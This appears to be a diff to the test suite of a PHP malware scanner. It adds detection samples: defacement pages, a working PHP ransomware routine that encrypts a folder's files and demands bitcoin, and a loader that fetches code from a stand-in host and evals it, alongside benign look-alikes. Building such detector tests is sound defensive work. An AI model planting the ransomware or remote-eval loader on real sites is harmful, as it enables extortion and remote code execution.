@@ -53,6 +53,32 @@ if (!empty($_POST['file'])) {
 <form method="post"><input name="file" value="/etc/passwd"><button>Read</button></form>
 `,
   ],
+  [
+    'a defacement page kept as .php: hacked by in its title, a marquee and music (H38)',
+    '/srv/www/index.php',
+    `<html><head><title>~ Hacked by Nobody ~</title></head>\n<body style="background:#000;color:#0f0">\n<h1>Your site was tested</h1>\n<marquee>Thanks to all my friends</marquee>\n<audio autoplay src="https://example.invalid/song.mp3"></audio>\n</body></html>\n`,
+  ],
+  [
+    'a defacement page saying so in its og:title, with greetings (H38)',
+    '/srv/www/x.php',
+    `<!DOCTYPE html><html><head>\n<meta content="HACKED By Q" property="og:title">\n<title>oops</title></head>\n<body><h2>No System Is Safe</h2><p>Greetz: all crews</p></body></html>\n`,
+  ],
+  [
+    'PHP ransomware encrypting every file of its folder and asking for bitcoin (H38)',
+    '/srv/www/r.php',
+    `<?php
+if (isset($_POST['k'])) {
+  foreach (glob(__DIR__ . '/*') as $f) {
+    if (!is_file($f) || $f === __FILE__) continue;
+    $iv = random_bytes(16);
+    file_put_contents($f . '.locked', base64_encode($iv . openssl_encrypt(file_get_contents($f), 'aes-256-cbc', $_POST['k'], OPENSSL_RAW_DATA, $iv)));
+    unlink($f);
+  }
+}
+?>
+<h1>Your files are encrypted</h1><p>Send 0.01 BTC to wallet bc1qexample to get the key.</p>
+`,
+  ],
 ];
 
 // Red team S42R's evasions of this session's changes (bench/redteam/README-corpus-s42.md), written again by us.
@@ -104,9 +130,46 @@ $r = $db->query("SELECT LOAD_FILE('$f')");
 echo $r->fetch_row()[0];
 `,
   ],
+  [
+    'the loader with "?>" in a constant (S42R-14)',
+    '/srv/www/l2.php',
+    `<?php
+define('OPEN', '?>');
+function pull($u) { $h = curl_init($u); curl_setopt($h, CURLOPT_RETURNTRANSFER, 1); return curl_exec($h); }
+eval(OPEN . pull('http://example.invalid/p.txt'));
+`,
+  ],
 ];
 
 const LOOKALIKES: [string, string, string][] = [
+  [
+    'a page running a program of its own folder, the folder a constant, its arguments the request\'s through escapeshellcmd',
+    '/srv/www/probe.php',
+    `<?php
+define('TOOLS', '/usr/lib/app/bin');
+$iface = $_GET['iface'] ?? 'eth0';
+exec(escapeshellcmd(TOOLS . "/probe.pl --iface $iface"), $out);
+echo implode("\n", array_map('htmlspecialchars', $out));
+`,
+  ],
+  [
+    'a news page cached under a headline saying a retailer was hacked by a gang',
+    '/srv/www/wp-content/cache/page/retailer.html',
+    `<!DOCTYPE html><html><head><title>Retailer hacked by ransomware gang, customers told to change passwords</title>\n<meta property="og:title" content="Retailer hacked by ransomware gang"></head>\n<body><article><h1>Retailer hacked by ransomware gang</h1><p>Thanks to quick work by its staff, the shop reopened.</p>\n<iframe src="https://www.youtube.com/embed/abc"></iframe></article></body></html>\n`,
+  ],
+  [
+    'a backup plugin encrypting its archives of the site, which says it guards against ransomware',
+    '/srv/www/wp-content/plugins/safe-backup/backup.php',
+    `<?php
+// Encrypted off-site backups: your best protection against ransomware.
+function sb_backup($key) {
+  $out = '';
+  foreach (glob(ABSPATH . 'wp-content/uploads/*') as $f) $out .= basename($f) . "\n" . base64_encode(file_get_contents($f)) . "\n";
+  $iv = random_bytes(16);
+  file_put_contents(WP_CONTENT_DIR . '/backups/' . date('Ymd') . '.enc', $iv . openssl_encrypt($out, 'aes-256-cbc', $key, OPENSSL_RAW_DATA, $iv));
+}
+`,
+  ],
   [
     'a dispatcher whose action a ternary checks against a list before its default (S42R-1)',
     '/srv/www/app.php',
@@ -200,19 +263,19 @@ describe('scan: session 42 samples, the misses written again', () => {
       assert.equal(r.verdict, 'malicious', why(r));
     });
   }
-  it('ran every page', () => assert.equal(PAGES.length, 6));
+  it('ran every page', () => assert.equal(PAGES.length, 9));
   for (const [name, path, src] of LOOKALIKES) {
     it(`not malicious: ${name}`, () => {
       const r = scan(src, path);
       assert.notEqual(r.verdict, 'malicious', why(r));
     });
   }
-  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 9));
+  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 12));
   for (const [name, path, src] of VARIANTS) {
     it(`malicious: ${name}`, () => {
       const r = scan(src, path);
       assert.equal(r.verdict, 'malicious', why(r));
     });
   }
-  it('ran every variant', () => assert.equal(VARIANTS.length, 4));
+  it('ran every variant', () => assert.equal(VARIANTS.length, 5));
 });
